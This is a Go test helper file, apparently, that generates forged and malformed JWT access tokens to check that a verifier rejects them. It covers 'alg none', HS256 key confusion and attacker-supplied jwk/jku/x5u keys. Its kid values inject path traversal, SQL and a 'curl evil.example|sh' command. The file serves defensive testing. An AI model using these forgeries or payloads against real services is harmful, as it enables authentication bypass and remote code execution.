package forgery

import (
	"crypto/rsa"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/big"
	"strings"
)

// spellings are other ways to write a good token.
func (j *jws) spellings() []Form {
	head, body, sig := j.parts[0], j.parts[1], j.parts[2]
	last := sig[len(sig)-1]
	const digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	// 256 bytes leave four bits of the last digit unused.
	sibling := string(digits[strings.IndexByte(digits, last)^1])
	list := []Form{
		{Name: "two dots", Token: ".."},
		{Name: "a word", Token: "token"},
		{Name: "a thousand dots", Token: strings.Repeat(".", 1000)},
		{Name: "two parts", Token: head + "." + body},
		{Name: "no signature", Token: head + "." + body + "."},
		{Name: "four parts", Token: j.Good + "." + sig},
		{Name: "five parts, as a JWE has", Token: head + "." + sig + "." + sig + "." + body + "." + sig},
		{Name: "JSON serialisation", Token: fmt.Sprintf(`{"protected":%q,"payload":%q,"signature":%q}`, head, body, sig)},
		{Name: "padding", Token: j.Good + "=="},
		{Name: "padding of the payload", Token: head + "." + body + "=." + sig},
		{Name: "a blank behind", Token: j.Good + " "},
		{Name: "a tab inside", Token: head + ".\t" + body + "." + sig},
		{Name: "a line break inside", Token: head + ".\n" + body + "." + sig},
		{Name: "a line break behind", Token: j.Good + "\r\n"},
		{Name: "NUL behind", Token: j.Good + "\x00"},
		{Name: "bad UTF-8", Token: j.Good + "\xff"},
		{Name: "the alphabet of plain base64", Token: head + "." + body + "." + base64.RawStdEncoding.EncodeToString([]byte(strings.Repeat("\xff", 256)))},
		{Name: "another spelling of the same bits", Token: j.Good[:len(j.Good)-1] + sibling},
		{Name: "the scheme twice", Token: "Bearer " + j.Good},
		{Name: "longer than 8 KiB", Token: j.sign(j.Ours, j.head, with(j.body, `"x":"`+strings.Repeat("x", 8<<10)+`"`))},
	}
	for i := range list {
		list[i].Shape = true
	}
	return append(list,
		Form{Name: "signature cut short", Token: j.Good[:len(j.Good)-8]},
		Form{Name: "signature of zeros", Token: head + "." + body + "." + encode(strings.Repeat("\x00", 256))},
		Form{Name: "signature of another token", Token: head + "." + body + j.Other[strings.LastIndexByte(j.Other, '.'):]},
		Form{Name: "payload of another token", Token: head + "." + strings.Split(j.Other, ".")[1] + "." + sig},
	)
}

// algorithms are headers that name another algorithm, or none.
func (j *jws) algorithms() []Form {
	public, err := x509.MarshalPKIXPublicKey(&j.Ours.Private.PublicKey)
	if err != nil {
		j.t.Fatal(err)
	}
	unsigned := func(alg string) string { return encode(j.alg(alg)) + "." + j.parts[1] + "." }
	list := []Form{
		{Name: "alg none", Token: unsigned("none")},
		{Name: "alg none, signature kept", Token: unsigned("none") + j.parts[2]},
		{Name: "alg None", Token: unsigned("None")},
		{Name: "alg nOnE, signed", Token: j.sign(j.Ours, j.alg("nOnE"), j.body)},
		{Name: "alg in lower case", Token: j.sign(j.Ours, j.alg("rs256"), j.body)},
		{Name: "alg empty", Token: j.sign(j.Ours, j.alg(""), j.body)},
		{Name: "alg absent", Token: j.sign(j.Ours, strings.Replace(j.head, `"alg":"RS256",`, "", 1), j.body)},
		{Name: "alg twice", Token: j.sign(j.Ours, with(j.head, `"alg":"none"`), j.body)},
		{Name: "alg a list", Token: j.sign(j.Ours, strings.Replace(j.head, `"RS256"`, `["RS256"]`, 1), j.body)},
		{Name: "alg by another name", Token: j.sign(j.Ours, strings.Replace(j.head, `"alg"`, `"Alg"`, 1), j.body)},
		{Name: "alg RS512", Token: j.sign(j.Ours, j.alg("RS512"), j.body)},
		{Name: "HS256 with the public key", Token: j.mac(public)},
		{Name: "HS256 with the certificate", Token: j.mac(j.Ours.Certificate)},
		{Name: "HS256 with the modulus", Token: j.mac(j.Ours.Private.N.Bytes())},
		{Name: "HS256 with nothing", Token: j.mac(nil)},
	}
	for i := range list {
		list[i].Shape = true
	}
	// Algorithms of ours that the key is not for: only the key says so.
	return append(list,
		Form{Name: "alg PS256, signed by RS256", Token: j.sign(j.Ours, j.alg("PS256"), j.body)},
		Form{Name: "alg PS256, signed so", Token: j.pss(j.Ours, j.alg("PS256"), j.body)},
		Form{Name: "alg RS256, signed by PS256", Token: j.pss(j.Ours, j.head, j.body)},
		Form{Name: "alg ES256", Token: j.sign(j.Ours, j.alg("ES256"), j.body)},
		Form{Name: "alg EdDSA", Token: j.sign(j.Ours, j.alg("EdDSA"), j.body)},
	)
}

// keyIDs are headers that name another key, or try what a kid might do to whoever looks it
// up. They are signed by our own key, so that nothing but the kid is wrong.
func (j *jws) keyIDs() []Form {
	kid := func(value string) string {
		return j.sign(j.Ours, `{"alg":"RS256","kid":`+value+`,"typ":"at+jwt"}`, j.body)
	}
	quoted := func(value string) string {
		raw, err := json.Marshal(value)
		if err != nil {
			j.t.Fatal(err)
		}
		return kid(string(raw))
	}
	return []Form{
		{Name: "kid absent", Token: j.sign(j.Ours, `{"alg":"RS256","typ":"at+jwt"}`, j.body)},
		{Name: "kid empty", Token: quoted("")},
		{Name: "kid of a stranger", Token: quoted(j.Theirs.ID)},
		{Name: "kid in lower case", Token: quoted(strings.ToLower(j.Ours.ID))},
		{Name: "kid a path", Token: quoted("../../../../dev/null")},
		{Name: "kid SQL", Token: quoted("' UNION SELECT 'key' -- ")},
		{Name: "kid a command", Token: quoted("/dev/null; curl evil.example|sh")},
		{Name: "kid an address", Token: quoted("https://evil.example/jwks.json")},
		{Name: "kid NUL", Token: quoted(j.Ours.ID + "\x00")},
		{Name: "kid of 4 KB", Token: quoted(strings.Repeat("A", 4000))},
		{Name: "kid a list", Token: kid(`["` + j.Ours.ID + `"]`), Shape: true},
		{Name: "kid null", Token: kid("null"), Shape: true},
		{Name: "kid twice", Token: kid(`"x","kid":"` + j.Ours.ID + `"`), Shape: true},
	}
}

// broughtKeys are tokens that bring along the key by which they want to be judged, or say
// that they are to be read in another way.
func (j *jws) broughtKeys() []Form {
	theirs := func(members string) string { return j.sign(j.Theirs, with(j.head, members), j.body) }
	ours := func(members string) string { return j.sign(j.Ours, with(j.head, members), j.body) }
	key := publicJWK(&j.Theirs.Private.PublicKey, j.Ours.ID)
	list := []Form{
		{Name: "jwk", Token: theirs(`"jwk":` + key)},
		{Name: "jwk and no kid", Token: j.sign(j.Theirs, `{"alg":"RS256","typ":"at+jwt","jwk":`+key+`}`, j.body)},
		{Name: "jku", Token: theirs(`"jku":"https://evil.example/jwks"`)},
		{Name: "x5c", Token: theirs(`"x5c":["` + base64.StdEncoding.EncodeToString(j.Theirs.Certificate) + `"]`)},
		{Name: "x5u", Token: theirs(`"x5u":"https://evil.example/cert"`)},
		{Name: "jwk, a text, our key", Token: ours(`"jwk":"x"`)},
		{Name: "jku, our key", Token: ours(`"jku":"https://evil.example/jwks"`)},
		{Name: "x5c, a text, our key", Token: ours(`"x5c":"x"`)},
		{Name: "x5u, our key", Token: ours(`"x5u":"https://evil.example/cert"`)},
		{Name: "crit, a text", Token: ours(`"crit":"exp"`)},
		{Name: "b64, a text", Token: ours(`"b64":"false"`)},
		{Name: "crit", Token: ours(`"crit":["exp"],"exp":4000000000`)},
		{Name: "crit empty", Token: ours(`"crit":[]`)},
		{Name: "b64 false", Token: ours(`"crit":["b64"],"b64":false`)},
		{Name: "header deeply nested", Token: ours(`"x":` + strings.Repeat("[", 2000) + strings.Repeat("]", 2000))},
		{Name: "header of a thousand members", Token: ours(manyMembers(900))},
		{Name: "header no JSON", Token: j.sign(j.Ours, "RS256", j.body)},
		{Name: "header empty", Token: "." + j.parts[1] + "." + j.parts[2]},
		{Name: "header of bad UTF-8", Token: ours("\"\xff\":\"x\"")},
	}
	for i := range list {
		list[i].Shape = true
	}
	return append(list, Form{Name: "zip", Token: theirs(`"zip":"DEF"`)})
}

func manyMembers(n int) string {
	list := make([]string, n)
	for i := range list {
		list[i] = fmt.Sprintf(`"%d":""`, i)
	}
	return strings.Join(list, ",")
}

// types are tokens of another type, or of none.
func (j *jws) types() []Form {
	typ := func(value string) string {
		return j.sign(j.Ours, strings.Replace(j.head, `"at+jwt"`, value, 1), j.body)
	}
	list := []Form{
		{Name: "typ JWT", Token: typ(`"JWT"`)},
		{Name: "typ in upper case", Token: typ(`"AT+JWT"`)},
		{Name: "typ with its family", Token: typ(`"application/at+jwt"`)},
		{Name: "typ of an answer of introspection", Token: typ(`"token-introspection+jwt"`)},
		{Name: "typ a list", Token: typ(`["at+jwt"]`)},
		{Name: "typ absent", Token: j.sign(j.Ours, strings.Replace(j.head, `"typ":"at+jwt",`, "", 1), j.body)},
	}
	for i := range list {
		list[i].Shape = true
	}
	return list
}

// publicJWK is a key as a JSON Web Key (RFC 7517).
func publicJWK(k *rsa.PublicKey, id string) string {
	return fmt.Sprintf(`{"kty":"RSA","alg":"RS256","kid":%q,"n":%q,"e":%q}`, id, encode(string(k.N.Bytes())), encode(string(big.NewInt(int64(k.E)).Bytes())))
}
